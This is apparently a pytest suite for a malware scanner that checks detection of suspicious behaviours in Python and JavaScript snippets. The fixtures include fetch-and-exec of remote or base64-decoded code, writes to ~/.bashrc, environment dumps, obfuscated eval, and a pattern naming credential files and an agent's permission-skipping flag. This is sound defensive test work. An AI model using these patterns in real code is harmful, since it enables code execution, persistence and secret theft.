"""What a source would do is told from its text; what it only talks about is not."""

import ast
from textwrap import dedent

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from seawall.kernel.contents import Act, Trace
from seawall.kernel.limits import DEFAULT_LIMITS
from seawall.readers.syntax import javascript, python_source
from seawall.readers.syntax.source_marks import marks

P, N, D, X, S = Act.PROCESS, Act.NETWORK, Act.DYNAMIC, Act.DECODED, Act.PERSISTENCE


def python(text: str) -> set[tuple[Act, bool]]:
    data = dedent(text).encode()
    return {(item.act, item.at_load) for item in python_source.sights(data, "a.py", DEFAULT_LIMITS)}


def script(text: str) -> set[tuple[Act, bool]]:
    return {(item.act, item.at_load) for item in javascript.sights(text.encode(), "a.js", DEFAULT_LIMITS)}


PYTHON: tuple[tuple[str, set[tuple[Act, bool]]], ...] = (
    ("import subprocess\nsubprocess.run(['ls'])", {(P, True)}),
    ("import subprocess as s\nclass A:\n    x = s.Popen('ls')", {(P, True)}),
    ("from os import system as s\n\ndef f():\n    s('ls')", {(P, False)}),
    ("from os import system\n\ndef f():\n    system('ls')\n\nf()", {(P, True)}),
    ("import os\n\ndef f(x=os.system('ls')):\n    pass", {(P, True)}),
    ("import os\nif __name__ == '__main__':\n    os.system('ls')", {(P, False)}),
    ("import os\nif __name__ != '__main__':\n    os.system('ls')", {(P, True)}),
    ("import os\ntry:\n    os.popen('ls')\nexcept OSError:\n    pass", {(P, True)}),
    ("getattr(__import__('o' + 's'), 'sys' + 'tem')('ls')", {(P, True)}),
    ("import importlib\nimportlib.import_module('subprocess').run('ls')", {(P, True)}),
    ("import os\nrun = os.system\nrun('ls')", {(P, True)}),
    ("import os, threading\ndef f():\n    os.system('ls')\nthreading.Thread(target=f).start()", {(P, True)}),
    ("import os, atexit\ndef f():\n    os.system('ls')\natexit.register(f)", {(P, True)}),
    ("import os\nclass A:\n    def __init__(self):\n        os.system('ls')\nA()", {(P, True)}),
    ("import urllib.request\nurllib.request.urlopen('http://files.example')", {(N, True)}),
    ("import requests\ndef f():\n    requests.post('http://files.example')", {(N, False)}),
    ("import base64\nexec(base64.b64decode('eA=='))", {(X, True)}),
    ("import zlib as z\na = z.decompress(b'')\nb = a.decode()\nexec(b)", {(X, True)}),
    ("import requests\nexec(requests.get('http://files.example').text)", {(X, True), (N, True)}),
    ("__builtins__['ex' + 'ec'](open('x').read())", {(D, True)}),
    ("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'exec(__import__(\"base64\").b64decode(1))'])", {(X, True)}),
    ("from pathlib import Path\nPath('~/.bashrc').expanduser().write_text('x')", {(S, True)}),
    ("exec('a = 1')", set()),
    ("import re\nre.compile('exec(')\nmodel.eval()", set()),
    ("# subprocess.run\nx = 'subprocess.run(1)'", set()),
    ("import subprocess\nif TYPE_CHECKING:\n    subprocess.run('x')", {(P, False)}),
)  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), PYTHON)
def test_python(text: str, expected: set[tuple[Act, bool]]) -> None:
    assert python(text) == expected


def test_python_of_another_version_is_searched() -> None:
    text = "type X = int if else\nimport os\nos.system('ls')\ndef f():\n    pass\n"
    with pytest.raises(SyntaxError):
        ast.parse(text)
    assert python(text) == {(P, True)}


def test_python_nested_beyond_reason() -> None:
    assert python("import os\nos.system('ls')\n" + "(" * 5000 + ")" * 5000) == {(P, True)}


SCRIPTS: tuple[tuple[str, set[tuple[Act, bool]]], ...] = (
    ("require('child_process').exec('ls')", {(P, False), (P, True)}),
    ("const {spawn} = require('child_process'); exports.f = () => spawn('ls')", {(P, False)}),
    ("import {execSync} from 'node:child_process'; execSync('ls')", {(P, False), (P, True)}),
    ("const cp = require('child_process'); /a/.exec(x); pattern.exec(y)", {(P, False)}),
    ("pattern.exec(text); spawn(x)", set()),
    ("fetch('http://files.example')", {(N, True)}),
    ("!function(){ fetch('http://files.example') }()", {(N, True)}),
    ("(() => { fetch('http://files.example') })()", {(N, True)}),
    ("(function(){ fetch('http://files.example') }).call(this)", {(N, True)}),
    ("exports.f = function(){ fetch('http://files.example') }", {(N, False)}),
    ("function f(){ fetch('http://files.example') }", {(N, False)}),
    ("function f(){ fetch('http://files.example') }\nf()", {(N, True)}),
    ("const f = async () => { await fetch('http://files.example') }; f().catch(() => {})", {(N, True)}),
    ("const https = require('https'); https.get('http://files.example')", {(N, False), (N, True)}),
    ("eval(text)", {(D, True)}),
    ("new Function(text)()", {(D, True)}),
    ("eval(atob('eA=='))", {(X, True)}),
    ("eval(Buffer.from(x, 'hex').toString())", {(X, True)}),
    ("const code = Buffer.from(x, 'base64').toString(); eval(code)", {(X, True)}),
    ("module._compile(text, 'a')", {(D, True)}),
    ("JSON.stringify(process.env)", {(Act.ENVIRONMENT, True)}),
    ("spawn('x', {env: process.env}); f({...process.env})", set()),
    ("require('chi' + 'ld_process')", {(Act.DISGUISED, True)}),
    ("global['ev' + 'al'](x)", {(Act.DISGUISED, True)}),
    ("fs.writeFileSync(home + '/.bashrc', x)", {(S, False)}),
    ("// eval(x) fetch(y)\nconst s = 'eval(1) child_process'; /fetch(1)/", set()),
    ("Function('return this')()", set()),
    ("new Function('s', 'return import(s)')", set()),
    ("client.fetch(1); cache.eval(2)", set()),
)


@pytest.mark.parametrize(("text", "expected"), SCRIPTS)
def test_javascript(text: str, expected: set[tuple[Act, bool]]) -> None:
    assert script(text) == expected


def test_what_a_script_asks_for() -> None:
    text = b"require('./a'); import x from \"../b.js\"; export * from './c'; import('./d'); require('lodash')"
    assert javascript.imports(text) == {"./a", "../b.js", "./c", "./d"}


def test_a_flood_of_words_hides_nothing() -> None:
    flood = "/a/.exec(x);" * 4000
    assert D in {act for act, _ in script("require('child_process');" + flood + "eval(text)")}


def traces(data: bytes) -> set[Trace]:
    return {item.trace for item in marks(data, "a.js")}


MARKS: tuple[tuple[bytes, set[Trace]], ...] = (
    (("const a = '" + "\ufe01" * 20 + "'").encode(), {Trace.INVISIBLE}),
    (("const a = '" + "\U000e0101" * 12 + "'").encode(), {Trace.INVISIBLE}),
    ("\ufeffconst hearts = '\u2764\ufe0f\u2764\ufe0f \U0001f468\u200d\U0001f469\u200d\U0001f467'".encode(), set()),
    ("/* \u202e } if */".encode(), {Trace.REORDERED}),
    (b" ".join(b"_0x%04x" % n for n in range(50)), {Trace.RENAMED}),
    (b"var _0xabcd = 1; var _0xabce = 2", set()),
    (b"x = '" + b"".join(b"\\x%02x" % (65 + n % 26) for n in range(400)) + b"'", {Trace.ESCAPED}),
    (b"x = /[" + b"".join(b"\\u%04x" % (0x300 + n) for n in range(400)) + b"]/", set()),
    (b"x = '" + bytes(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnop0123456789"[n * 7 % 52] for n in range(5000)) + b"'", {Trace.BLOB}),
    (b"x = 'data:image/png;base64," + b"ABCDEFGHIJKLMNOPQRSTUVWXYZ" * 300 + b"'", set()),
    (b"x = '" + b"A" * 9000 + b"'", set()),
    (b"a = 1;" + b" " * 400 + b"eval(x)", {Trace.PUSHED}),
    (b"| a" + b" " * 400 + b"|", set()),
    (b".npmrc .aws/credentials id_rsa NPM_TOKEN", {Trace.SECRETS}),
    (b".npmrc NPM_TOKEN", set()),
    (b"claude --dangerously-skip-permissions -p", {Trace.AGENTS}),
)  # fmt: skip


@pytest.mark.parametrize(("data", "expected"), MARKS)
def test_marks(data: bytes, expected: set[Trace]) -> None:
    assert traces(data) == expected


WORDS = st.sampled_from(
    ["eval", "(", ")", "exec", "import os\n", "os.system", "=", "'", '"', "\n", " ", "def f():\n", "base64",
     "require", "fetch", "{", "}", "=>", "function", "\\x41", "process.env", "\ufe0f", "\0", "`", "${"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(WORDS, max_size=30).map("".join), st.binary(max_size=40))
def test_no_text_breaks_them(text: str, more: bytes) -> None:
    data = text.encode("utf-8", "surrogatepass") + more
    for item in (
        *python_source.sights(data, "a", DEFAULT_LIMITS),
        *javascript.sights(data, "a", DEFAULT_LIMITS),
    ):
        assert item.line >= 1
    for mark in marks(data, "a"):
        assert mark.line >= 1
